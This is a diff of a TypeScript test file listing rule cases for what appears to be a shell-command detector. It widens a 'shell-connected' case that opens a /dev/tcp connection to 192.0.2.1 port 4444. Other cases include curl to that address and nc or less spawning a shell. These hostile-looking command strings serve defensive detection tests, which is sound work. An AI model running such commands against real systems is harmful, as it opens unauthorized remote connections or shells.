@@ -160,7 +160,11 @@ export const CASES: Readonly<Record<string, readonly RuleCase[]>> = {
       "shell nc; $B/nc -c 'sh -c true; true'",
       "shell less; $B/less -c 'sh -c true; true'",
     ),
-    of("shell-connected", "bash -c 'exec 3<>/dev/tcp/192.0.2.1/4444'", "bash -c 'curl -s http://192.0.2.1/'"),
+    of(
+      "shell-connected",
+      "bash -c 'exec 3<>/dev/tcp/192.0.2.1/4444; read -t 5 -u 3'",
+      "bash -c 'curl -s http://192.0.2.1/'",
+    ),
     of("shell-reverse-words", "sh -c ': /dev/tcp/192.0.2.1/1'", "sh -c ': /dev/tty'"),
     of(
       "shell-waiting",
